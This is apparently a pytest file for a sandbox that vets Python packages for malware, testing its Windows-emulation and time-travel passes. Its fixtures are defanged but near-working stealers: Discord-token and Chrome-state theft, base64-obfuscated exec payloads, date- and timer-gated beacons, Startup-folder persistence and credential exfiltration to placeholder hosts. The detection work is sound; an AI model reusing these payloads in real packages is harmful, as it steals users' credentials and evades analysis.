"""Extra passes (real engine): the Windows-stealer emulation pass and the time-travel
pass re-run startup and import in the same container; their findings say which pass
saw them and rest on that pass's events alone.

Fixtures are defanged and built here: they only ever talk to TEST-NET addresses,
which the network-less sandbox's sinkhole answers; nothing leaves the container.
"""

from __future__ import annotations

import datetime
import json
import re
import textwrap
from pathlib import Path
from typing import Any

import pytest

from sandbox.models import DEFAULT_PASS, Phase, Report, Severity, Verdict
from tests.conftest import run_cli
from tests.fixtures.builders import Randomised, build_wheel, exfil_source

pytestmark = pytest.mark.usefixtures("sandbox_image", "no_leaks")


def _profile(tmp_path: Path, windows: str, time: str, extends: str = "default") -> Path:
    path = tmp_path / f"passes-{windows}-{time}.toml"
    path.write_text(
        f'name = "passes-test"\nextends = "{extends}"\n\n[passes]\nwindows = "{windows}"\ntime = "{time}"\n'
    )
    return path


def _vet(tmp_path: Path, name: str, src: str, *args: str) -> Report:
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
    _code, report = run_cli(tmp_path, str(whl), *args)
    assert report is not None
    return report


def _facts(report: Report, pass_name: str) -> dict[str, Any]:
    imp = next(p for p in report.phases if p.phase is Phase.IMPORT and p.pass_name == pass_name)
    m = re.search(r"FACTS (\{.*\})", imp.output_tail)
    assert m, imp.output_tail
    facts: dict[str, Any] = json.loads(m.group(1))
    return facts


def _rows(report: Report) -> set[tuple[Phase, str]]:
    return {(p.phase, p.pass_name) for p in report.phases}


def test_windows_stealer_is_caught_in_the_windows_pass(tmp_path: Path) -> None:
    r = Randomised()
    host, hook = r.address(), f"/api/webhooks/{r.rng.randrange(10**17, 10**18)}/{r.name('h')}"
    src = textwrap.dedent(f"""\
        import json, os, re, socket
        from ctypes import windll  # ImportError on Linux: the default pass stops here
        from win32crypt import CryptUnprotectData

        serial = windll.kernel32.GetVolumeInformationW(None, None, 0, None, None, None, None, 0)
        path = os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb"
        found = []
        for name in os.listdir(path):
            if name.endswith((".ldb", ".log")):
                text = open(f"{{path}}\\\\{{name}}", errors="ignore").read()
                found += re.findall(r"[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{25,110}}", text)
        body = json.dumps({{"content": found, "pc": os.getenv("COMPUTERNAME")}}).encode()
        s = socket.create_connection(({host!r}, 80), timeout=5)
        s.sendall(b"POST {hook} HTTP/1.1\\r\\nHost: discord.invalid\\r\\nContent-Type: application/json\\r\\n"
                  b"Content-Length: " + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
        s.recv(100)
        s.close()
        windll.user32.MessageBoxW(0, "Installed", "Setup", 0)
        print("FACTS " + json.dumps({{"tokens": len(found), "serial": serial}}))
        """)
    report = _vet(tmp_path, r.name("winst"), src)
    assert (Phase.IMPORT, "windows") in _rows(report) and (Phase.STARTUP, "windows") in _rows(report)
    win_import = next(p for p in report.phases if p.phase is Phase.IMPORT and p.pass_name == "windows")
    assert "Windows-only import" in win_import.pass_note and "windll" in win_import.pass_note
    default_import = next(p for p in report.phases if p.phase is Phase.IMPORT and p.pass_name == DEFAULT_PASS)
    assert any("windll" in s.detail for s in default_import.steps), default_import.steps
    assert _facts(report, "windows")["tokens"] == 1

    assert report.verdict is Verdict.MALICIOUS
    ps010 = [f for f in report.findings if f.rule_id == "PS010"]
    assert ps010 and all(f.pass_name == "windows" for f in ps010), [(f.rule_id, f.pass_name) for f in ps010]
    assert ps010[0].severity is Severity.CRITICAL and "windows pass" in ps010[0].message
    assert all(e.pass_name == "windows" for e in ps010[0].evidence)
    assert {f.rule_id for f in report.findings if f.pass_name == "windows"} >= {"PS010", "PS012"}
    # the default pass alone saw nothing of it: none of its findings is about the token
    assert not [f for f in report.findings if f.pass_name == DEFAULT_PASS and f.rule_id in ("PS010", "PS012")]

    assert report.network is not None
    x = next(x for x in report.network.exfiltration if x.canary == "discord token")
    assert x.pass_name == "windows" and x.channel == "http" and x.destination == f"{host}:80"
    assert "discord/Local Storage/leveldb" in x.location
    reads = [rd for rd in report.network.honeytoken_reads if "discord" in rd.path]
    assert reads and {rd.pass_name for rd in reads} == {"windows"}
    # the default pass's events are never mixed in: every event the windows pass's
    # finding cites is one of that pass's own
    assert all(e.pass_name in (DEFAULT_PASS, "windows", "time") for e in report.events)
    assert not [e for e in report.events if e.pass_name == DEFAULT_PASS and e.path and "discord" in e.path]


def test_time_bomb_wakes_only_in_the_time_travel_pass(tmp_path: Path) -> None:
    r = Randomised()
    host, port = r.address(), r.rng.randrange(1025, 65000)
    built = datetime.datetime.now() - datetime.timedelta(days=r.rng.randrange(1, 5))
    src = textwrap.dedent(f"""\
        import datetime, email.utils, json, socket, struct, time
        BUILD_DATE = datetime.datetime({built.year}, {built.month}, {built.day})
        facts = {{"now": time.time()}}
        # ask the network for the date too (NTP), as careful time bombs do
        q = b"\\x23" + b"\\0" * 47
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.settimeout(3)
        try:
            u.sendto(q, ({r.address()!r}, 123))
            reply = u.recv(48)
            facts["ntp"] = struct.unpack("!I", reply[40:44])[0] - 2208988800
        except OSError as exc:
            facts["ntp_error"] = str(exc)
        if datetime.datetime.now() > BUILD_DATE + datetime.timedelta(days=30):
            time.sleep(120)  # a patient payload: shortened in the time-travel pass
            s = socket.create_connection(({host!r}, {port}), timeout=5)
            s.sendall(b"GET /beacon?v=1 HTTP/1.1\\r\\nHost: c2.invalid\\r\\n\\r\\n")
            head = s.recv(400).decode("latin-1")
            s.close()
            date = re.search(r"Date: (.*)\\r", head).group(1) if "Date:" in head else ""
            facts["http_date"] = email.utils.parsedate_to_datetime(date).timestamp() if date else 0
        print("FACTS " + json.dumps(facts))
        """).replace("import datetime,", "import re, datetime,")
    report = _vet(tmp_path, r.name("tbomb"), src, "--profile", str(_profile(tmp_path, "never", "always")))
    assert (Phase.IMPORT, "time") in _rows(report)
    assert not [p for p in report.phases if p.pass_name == "windows"]

    real, shifted = _facts(report, DEFAULT_PASS), _facts(report, "time")
    ahead = shifted["now"] - real["now"]
    assert 29 * 86400 < ahead < 181 * 86400, ahead
    assert "http_date" not in real  # the bomb did not go off in the default pass
    assert abs(shifted["ntp"] - shifted["now"]) < 120, shifted  # the sinkhole's NTP agrees
    assert abs(real["ntp"] - real["now"]) < 120, real
    assert abs(shifted["http_date"] - shifted["now"]) < 300, shifted  # so does its HTTP Date

    beacon = [e for e in report.events if e.address is not None and e.address.port == port]
    assert beacon and {e.pass_name for e in beacon} == {"time"}
    caught = [
        f for f in report.findings if any(e.destination and str(port) in e.destination for e in f.evidence)
    ]
    assert caught and all(f.pass_name == "time" for f in caught), [(f.rule_id, f.pass_name) for f in caught]
    assert report.verdict in (Verdict.MALICIOUS, Verdict.SUSPICIOUS)
    assert report.network is not None
    conn = next(c for c in report.network.connections if c.destination == f"{host}:{port}")
    assert conn.pass_name == "time"


def test_benign_package_stays_clean_with_both_passes_in_deep(tmp_path: Path) -> None:
    r = Randomised()
    name = r.name("plain")
    src = "import json, os, time\nVALUE = json.dumps({'sep': os.sep, 't': time.time() > 0})\n"
    code, report = run_cli(
        tmp_path,
        str(build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})),
        "--profile",
        str(_profile(tmp_path, "always", "always", extends="deep")),
    )
    assert report is not None
    assert {(Phase.IMPORT, "windows"), (Phase.IMPORT, "time"), (Phase.STARTUP, "time")} <= _rows(report)
    assert report.verdict is Verdict.CLEAN, [(f.rule_id, f.pass_name, f.message) for f in report.findings]
    assert code == 0
    assert all(p.status.value == "ok" for p in report.phases), [
        (p.phase, p.pass_name, p.problems) for p in report.phases
    ]


def test_windows_stealer_in_setup_py_is_caught_in_a_windows_reinstall(tmp_path: Path) -> None:
    """setup.py imports ctypes.windll and reads %USERPROFILE%: the default install fails
    on Linux, so the Windows pass re-runs install, where the candidate's code (and
    only it) sees os.name 'nt' and the stealer reaches the honey tree and sends it."""
    from tests.integration.test_detonate import legacy_sdist

    r = Randomised()
    name, host = r.name("winsetup"), r.address()
    hook = f"/api/webhooks/{r.rng.randrange(10**17, 10**18)}/{r.name('h')}"
    top = textwrap.dedent(f"""\
        import json, os, platform, re, socket, sys
        from ctypes import windll
        profile = os.environ["USERPROFILE"]
        if os.name == "nt" and sys.platform == "win32" and platform.system() == "Windows":
            path = os.getenv("APPDATA") + "\\\\Discord\\\\Local Storage\\\\leveldb"
            found = []
            for leaf in os.listdir(path):
                if leaf.endswith((".ldb", ".log")):
                    text = open(path + "\\\\" + leaf, errors="ignore").read()
                    found += re.findall(r"[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{25,110}}", text)
            body = json.dumps({{"content": found}}).encode()
            s = socket.create_connection(({host!r}, 80), timeout=5)
            s.sendall(b"POST {hook} HTTP/1.1\\r\\nHost: discord.invalid\\r\\n"
                      b"Content-Length: " + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
            s.recv(100)
            s.close()
        """)
    code, report = run_cli(tmp_path, str(legacy_sdist(tmp_path, name, top)))
    assert report is not None
    rows = {(p.phase, p.pass_name): p for p in report.phases}
    assert rows[(Phase.INSTALL, DEFAULT_PASS)].status.value == "error"
    win = rows[(Phase.INSTALL, "windows")]
    assert "Windows-only import" in win.pass_note and "windll" in win.pass_note
    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
    assert report.network is not None
    x = next(x for x in report.network.exfiltration if x.canary == "discord token")
    assert x.pass_name == "windows" and x.destination == f"{host}:80"
    caught = [f for f in report.findings if f.severity.rank >= Severity.HIGH.rank]
    assert caught and all(f.pass_name == "windows" and f.phase is Phase.INSTALL for f in caught), [
        (f.rule_id, f.pass_name, f.phase) for f in caught
    ]
    # pip itself, re-installing in the pass, is the harness: no finding cites its process
    pip = ("-m", "pip", "install")
    assert not [e for f in report.findings for e in f.evidence if tuple(e.process[1:4]) == pip]


def test_setup_py_gated_on_windows_runs_in_the_windows_pass_on_a_static_hint(tmp_path: Path) -> None:
    """An obfuscated setup.py payload gated on os.name == 'nt': the default pass completes
    clean, the host's static scan of the sources (kept rules only) hints at it, and the
    Windows pass rebuilds the sdist where the gate opens."""
    import base64

    from tests.integration.test_detonate import legacy_sdist

    r = Randomised()
    name, host, port = r.name("wingate"), r.address(), r.port()
    inner = textwrap.dedent(f"""\
        import os, socket
        if os.name == "nt":
            s = socket.create_connection(({host!r}, {port}), timeout=5)
            body = socket.gethostname().encode()
            s.sendall(b"POST /checkin HTTP/1.1\\r\\nHost: c2.invalid\\r\\nContent-Length: "
                      + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
            s.close()
        """)
    top = f"import base64\nexec(base64.b64decode({base64.b64encode(inner.encode()).decode()!r}))\n"
    code, report = run_cli(tmp_path, str(legacy_sdist(tmp_path, name, top)))
    assert report is not None
    rows = {(p.phase, p.pass_name): p for p in report.phases}
    assert rows[(Phase.INSTALL, DEFAULT_PASS)].status.value == "ok"
    win = rows[(Phase.INSTALL, "windows")]
    assert win.pass_note.startswith("static rules matched"), win.pass_note
    beacon = [e for e in report.events if e.address is not None and e.address.port == port]
    assert beacon and {e.pass_name for e in beacon} == {"windows"}
    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
    assert any(f.rule_id == "PS002" and f.pass_name == "windows" for f in report.findings)


def test_a_hinted_windows_pass_is_not_run_when_the_default_pass_already_sent(tmp_path: Path) -> None:
    """The same obfuscated shape, but its payload is not gated and POSTs to a hard-coded
    address at import: the default pass already proves it, the hint's Windows pass (a
    re-install, startup and import) would add only time, and the report says it was
    skipped and why."""
    import base64

    from tests.integration.test_detonate import sdist_of

    r = Randomised()
    name, host, port = r.name("sent"), r.address(), r.port()
    inner = textwrap.dedent(f"""\
        import socket
        s = socket.create_connection(({host!r}, {port}), timeout=5)
        body = socket.gethostname().encode()
        s.sendall(b"POST /checkin HTTP/1.1\\r\\nHost: c2.invalid\\r\\nContent-Length: "
                  + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
        s.recv(100)
        s.close()
        """)
    module = f"import base64\nexec(base64.b64decode({base64.b64encode(inner.encode()).decode()!r}))\n"
    setup_py = f"from setuptools import setup\nsetup(name={name!r}, version='1.0', py_modules=[{name!r}])\n"
    files = {
        "setup.py": setup_py,
        f"{name}.py": module,
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
    }
    code, report = run_cli(tmp_path, str(sdist_of(tmp_path, name, files)))
    assert report is not None
    assert not [p for p in report.phases if p.pass_name == "windows"], _rows(report)
    note = next((n for n in report.notes if n.startswith("extra pass windows called for and not run")), "")
    assert "static rules matched" in note and f"{host}:{port}" in note, report.notes
    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
    assert any(f.rule_id == "PS002" and f.pass_name == DEFAULT_PASS for f in report.findings)


def test_stealer_using_getlogin_and_hidden_window_flags_is_caught_in_the_windows_pass(tmp_path: Path) -> None:
    """`from subprocess import CREATE_NO_WINDOW` and `C:\\Users\\{os.getlogin()}\\…`: the
    first stops it on Linux (and fires the pass), the second needs a terminal there;
    Windows has both, so the pass's stealer reads the token and sends it."""
    r = Randomised()
    host, port = r.address(), r.port()
    src = textwrap.dedent(f"""\
        import json, os, re, socket, subprocess
        from subprocess import CREATE_NO_WINDOW, STARTUPINFO, STARTF_USESHOWWINDOW

        si = STARTUPINFO()
        si.dwFlags |= STARTF_USESHOWWINDOW
        user = os.getlogin()
        path = f"C:\\\\Users\\\\{{user}}\\\\AppData\\\\Roaming\\\\discord\\\\Local Storage\\\\leveldb"
        found = []
        for name in os.listdir(path):
            if name.endswith((".ldb", ".log")):
                text = open(os.path.join(path, name), errors="ignore").read()
                found += re.findall(r"[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{25,110}}", text)
        body = json.dumps({{"t": found, "u": user}}).encode()
        s = socket.create_connection(({host!r}, {port}), timeout=5)
        s.sendall(b"POST /c HTTP/1.1\\r\\nHost: x.invalid\\r\\nContent-Length: "
                  + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
        s.close()
        print("FACTS " + json.dumps({{"tokens": len(found), "flags": CREATE_NO_WINDOW}}))
        """)
    report = _vet(tmp_path, r.name("hidewin"), src)
    win_import = next(p for p in report.phases if p.phase is Phase.IMPORT and p.pass_name == "windows")
    assert "CREATE_NO_WINDOW" in win_import.pass_note, win_import.pass_note
    assert _facts(report, "windows")["tokens"] == 1
    assert report.verdict is Verdict.MALICIOUS
    ps010 = [f for f in report.findings if f.rule_id == "PS010"]
    assert ps010 and all(f.pass_name == "windows" for f in ps010)


def test_getlogin_failing_on_linux_fires_the_windows_pass(tmp_path: Path) -> None:
    """Linux without a terminal refuses os.getlogin() (ENXIO): the pass answers it."""
    r = Randomised()
    host, port = r.address(), r.port()
    src = textwrap.dedent(f"""\
        import json, os, socket
        user = os.getlogin()
        s = socket.create_connection(({host!r}, {port}), timeout=5)
        s.sendall(("GET /u/" + user + " HTTP/1.1\\r\\nHost: x.invalid\\r\\n\\r\\n").encode())
        s.close()
        print("FACTS " + json.dumps({{"user": user}}))
        """)
    report = _vet(tmp_path, r.name("whoami"), src)
    win_import = next(p for p in report.phases if p.phase is Phase.IMPORT and p.pass_name == "windows")
    assert "No such device or address" in win_import.pass_note, win_import.pass_note
    assert _facts(report, "windows")["user"]
    assert report.verdict is Verdict.MALICIOUS
    assert any(f.rule_id == "PS002" and f.pass_name == "windows" for f in report.findings)


def test_installed_module_gated_on_windows_sees_windows_in_the_pass(tmp_path: Path) -> None:
    """The candidate's own installed modules are shown Windows (os.name, sys.platform,
    platform.system()), not only its setup.py: in a venv the library's platstdlib holds
    site-packages, and a module gated on `os.name == "nt"` stayed dormant there."""
    r = Randomised()
    host, port = r.address(), r.port()
    src = textwrap.dedent(f"""\
        import json, os, platform, socket, sys
        from ctypes import windll  # the default pass stops here; it fires the Windows pass
        seen = [os.name, sys.platform, platform.system()]
        if os.name == "nt" and sys.platform == "win32" and platform.system() == "Windows":
            s = socket.create_connection(({host!r}, {port}), timeout=5)
            s.sendall(b"GET /nt HTTP/1.1\\r\\nHost: x.invalid\\r\\n\\r\\n")
            s.close()
        print("FACTS " + json.dumps({{"seen": seen}}))
        """)
    report = _vet(tmp_path, r.name("gated"), src)
    assert _facts(report, "windows")["seen"] == ["nt", "win32", "Windows"]
    assert report.verdict is Verdict.MALICIOUS
    assert any(f.rule_id == "PS002" and f.pass_name == "windows" for f in report.findings)


@pytest.mark.parametrize("how", ["timer", "event-wait"])
def test_a_timer_delayed_payload_fires_in_the_time_pass(tmp_path: Path, how: str) -> None:
    """``threading.Timer(N, payload).start()`` at import (or a thread asleep in
    ``Event().wait(N)``) outlasts the default pass's window: the lingering thread
    triggers the time pass (default profile, ``auto``), whose shortened waits let the
    payload run there, judged as that pass's."""
    r = Randomised()
    name, host, port = r.name("timed"), r.address(), r.port()
    secs = r.rng.randrange(15, 120)
    body = textwrap.indent(exfil_source(r.credential(), host, port), "    ")
    if how == "timer":
        src = f"import threading\ndef _later():\n{body}\nthreading.Timer({secs}, _later).start()\n"
    else:
        src = (
            f"import threading\ndef _later():\n    threading.Event().wait({secs})\n{body}\n"
            "threading.Thread(target=_later).start()\n"
        )
    report = _vet(tmp_path, name, src)
    assert (Phase.IMPORT, "time") in _rows(report), _rows(report)
    caught = [f for f in report.findings if any(e.destination == f"{host}:{port}" for e in f.evidence)]
    assert caught and all(f.pass_name == "time" for f in caught), [(f.rule_id, f.pass_name) for f in caught]
    assert report.verdict is Verdict.MALICIOUS, report.verdict_reason


# Clocks armed with no thread asleep on them (redteam7: each vetted CLEAN on main, the
# process noted idle and no time pass): the payload runs from a SIGALRM handler while
# the only other thread is parked for ever, or after a wait for a signal nobody sends.
ARMED = {
    "itimer": (
        "import signal, threading\ndef _later(*_):\n{body}\n"
        "signal.signal(signal.SIGALRM, _later)\nsignal.setitimer(signal.ITIMER_REAL, {secs})\n"
        "threading.Thread(target=threading.Event().wait, daemon=True).start()\n"
    ),
    "alarm": (
        "import signal, threading\ndef _later(*_):\n{body}\n"
        "signal.signal(signal.SIGALRM, _later)\nsignal.alarm({secs})\n"
        "threading.Thread(target=threading.Event().wait).start()\n"
    ),
    "sigtimedwait": (
        "import signal, threading\ndef _later():\n"
        "    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGUSR2])\n"
        "    signal.sigtimedwait([signal.SIGUSR2], {secs})\n{body}\n"
        "threading.Thread(target=_later, daemon=True).start()\n"
    ),
}


@pytest.mark.parametrize("how", sorted(ARMED))
def test_a_payload_behind_an_armed_clock_lingers_and_fires_in_the_time_pass(tmp_path: Path, how: str) -> None:
    r = Randomised()
    name, host, port = r.name("armed"), r.address(), r.port()
    body = textwrap.indent(exfil_source(r.credential(), host, port), "    ")
    src = ARMED[how].format(body=body, secs=r.rng.randrange(300, 900))
    report = _vet(tmp_path, name, src)
    lingered = [
        e.detail or ""
        for f in report.findings
        if f.rule_id == "PS006" and f.pass_name == DEFAULT_PASS
        for e in f.evidence
    ]
    said = "rt_sigtimedwait" if how == "sigtimedwait" else "SIGALRM"
    assert any(said in d for d in lingered), [(f.rule_id, f.pass_name, f.message) for f in report.findings]
    caught = [f for f in report.findings if any(e.destination == f"{host}:{port}" for e in f.evidence)]
    assert caught and all(f.pass_name == "time" for f in caught), [(f.rule_id, f.pass_name) for f in caught]
    assert report.verdict is Verdict.MALICIOUS, report.verdict_reason


def test_a_windows_variable_read_with_getenv_fires_the_windows_pass(tmp_path: Path) -> None:
    """``os.path.join(os.getenv("APPDATA"), …)`` fails on Linux with a TypeError (the
    variable is unset: None), not a KeyError: that too is a Windows-only failure."""
    r = Randomised()
    host, port = r.address(), r.port()
    var = r.rng.choice(["APPDATA", "LOCALAPPDATA", "USERPROFILE"])
    src = textwrap.dedent(f"""\
        import os, socket
        target = os.path.join(os.getenv({var!r}), "Microsoft", "Windows", "Start Menu", "Programs")
        s = socket.create_connection(({host!r}, {port}), timeout=5)
        s.sendall(b"GET /w HTTP/1.1\\r\\nHost: x.invalid\\r\\n\\r\\n")
        s.close()
        """)
    report = _vet(tmp_path, r.name("appdata"), src)
    win_import = next(p for p in report.phases if p.phase is Phase.IMPORT and p.pass_name == "windows")
    assert "NoneType" in win_import.pass_note, win_import.pass_note
    assert report.verdict is Verdict.MALICIOUS, report.verdict_reason
    assert any(f.rule_id == "PS002" and f.pass_name == "windows" for f in report.findings)


def test_a_file_dropped_in_the_windows_startup_folder_is_persistence(tmp_path: Path) -> None:
    """A stealer that drops a program into %APPDATA%\\...\\Startup (it runs at every
    logon) writes into the honey tree in the Windows pass: PS005, not a stray write."""
    r = Randomised()
    drop = r.name("upd") + r.rng.choice([".vbs", ".bat", ".jar", ".exe"])
    src = textwrap.dedent(f"""\
        import os
        from ctypes import windll  # the default pass stops here; it fires the Windows pass
        folder = os.path.join(os.getenv("APPDATA"), r"Microsoft\\Windows\\Start Menu\\Programs\\Startup")
        with open(os.path.join(folder, {drop!r}), "w") as fh:
            fh.write("rem defanged fixture\\n")
        """)
    report = _vet(tmp_path, r.name("dropper"), src)
    hits = [f for f in report.findings if f.rule_id == "PS005" and f.pass_name == "windows"]
    assert hits and any(drop in (e.path or "") for f in hits for e in f.evidence), [
        (f.rule_id, f.pass_name, f.message) for f in report.findings
    ]
    assert report.verdict is Verdict.MALICIOUS, report.verdict_reason


def test_a_windows_gated_downloader_in_setup_py_runs_in_the_windows_pass(tmp_path: Path) -> None:
    """A setup.py that downloads and starts a program only on Windows (no import fails,
    nothing obfuscated): the host's hint rebuilds the sdist in the Windows pass, where
    the gate opens and the shell it spawns is seen."""
    from tests.integration.test_detonate import legacy_sdist
    from tests.unit.test_passes import windows_dropper

    r = Randomised()
    name, host = r.name("wdrop"), r.address()
    code, report = run_cli(
        tmp_path, str(legacy_sdist(tmp_path, name, windows_dropper('if os.name == "nt":', host)))
    )
    assert report is not None
    rows = {(p.phase, p.pass_name): p for p in report.phases}
    win = rows[(Phase.INSTALL, "windows")]
    assert "setup.py gated on Windows" in win.pass_note, win.pass_note
    spawned = [f for f in report.findings if f.rule_id == "PS003"]
    assert spawned and all(f.pass_name == "windows" for f in spawned), [
        (f.rule_id, f.pass_name) for f in spawned
    ]
    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason


def test_a_windows_gated_browser_stealer_in_a_module_is_caught_in_the_hinted_windows_pass(
    tmp_path: Path,
) -> None:
    """A module that reads Chrome's ``Local State`` and sends it only where
    ``os.name == "nt"``: on Linux nothing fails and no kept static rule matched, so the
    Windows pass never ran (clean). The host's hint (a Windows gate beside a browser
    store) runs it now, where the honey tree's file is read and sent."""
    r = Randomised()
    host, port = r.address(), r.port()
    src = textwrap.dedent(f"""\
        import os, socket
        def _sync():
            base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
            with open(os.path.join(base, "Local State"), "rb") as fh:
                state = fh.read()
            s = socket.create_connection(({host!r}, {port}), timeout=5)
            head = b"POST /u HTTP/1.1\\r\\nHost: x.invalid\\r\\nContent-Length: %d\\r\\n\\r\\n"
            s.sendall(head % len(state) + state)
            s.close()
        if os.name == "nt":
            _sync()
        """)
    report = _vet(tmp_path, r.name("chromesync"), src)
    win = [p for p in report.phases if p.pass_name == "windows"]
    assert win and "browser, messenger or wallet store" in win[0].pass_note, [
        (p.phase, p.pass_name, p.pass_note) for p in report.phases
    ]
    assert report.verdict is Verdict.MALICIOUS, report.verdict_reason
    assert any(f.rule_id in ("PS010", "PS012") and f.pass_name == "windows" for f in report.findings), [
        (f.rule_id, f.pass_name) for f in report.findings
    ]


def test_a_date_gated_payload_wakes_in_the_hinted_time_pass(tmp_path: Path) -> None:
    """``if time.time() > <a date a few weeks ahead>:`` at import, nothing probed, nothing
    lingering: the time pass never ran and the payload stayed dormant. The host's hint
    (the clock compared with a literal date) runs it; the clock there is past the date."""
    r = Randomised()
    host, port = r.address(), r.port()
    when = int(datetime.datetime.now().timestamp()) + 86400 * r.rng.randrange(3, 20)
    src = textwrap.dedent(f"""\
        import socket, time
        if time.time() > {when}:
            s = socket.create_connection(({host!r}, {port}), timeout=5)
            s.sendall(b"GET /go HTTP/1.1\\r\\nHost: x.invalid\\r\\n\\r\\n")
            s.close()
        """)
    report = _vet(tmp_path, r.name("later"), src)
    rows = [p for p in report.phases if p.pass_name == "time"]
    assert rows and "compare the clock with a date" in rows[0].pass_note, [
        (p.phase, p.pass_name, p.pass_note) for p in report.phases
    ]
    sent = [f for f in report.findings if f.rule_id == "PS002"]
    assert sent and {f.pass_name for f in sent} == {"time"}, [
        (f.rule_id, f.pass_name) for f in report.findings
    ]
    assert report.verdict is not Verdict.CLEAN


def test_a_date_gated_payload_kept_in_a_function_wakes_when_the_time_pass_executes(tmp_path: Path) -> None:
    """A stealer kept in a public function that acts only past a date a few weeks ahead:
    the default pass's execute phase calls it and nothing happens; the time pass re-ran
    startup, import and exercise only, never the calls, and the run was clean. Now the
    time pass executes too, under its clock."""
    r = Randomised()
    when = int(datetime.datetime.now().timestamp()) + 86400 * r.rng.randrange(3, 20)
    body = textwrap.indent(exfil_source(".aws/credentials", r.address(), r.port()), "        ")
    src = (
        textwrap.dedent(
            f"""\
            import time

            def sync(target=None):
                \"\"\"Push the local cache to *target*.\"\"\"
                if time.time() > {when}:
            """
        )
        + body
        + "    return target\n"
    )
    report = _vet(tmp_path, r.name("laterfn"), src)
    rows = {(p.phase, p.pass_name) for p in report.phases}
    assert (Phase.EXECUTE, "time") in rows, sorted(rows)
    leaked = [f for f in report.findings if f.rule_id == "PS010"]
    assert leaked and {f.pass_name for f in leaked} == {"time"}, [
        (f.rule_id, f.pass_name) for f in report.findings
    ]
    assert report.verdict is Verdict.MALICIOUS
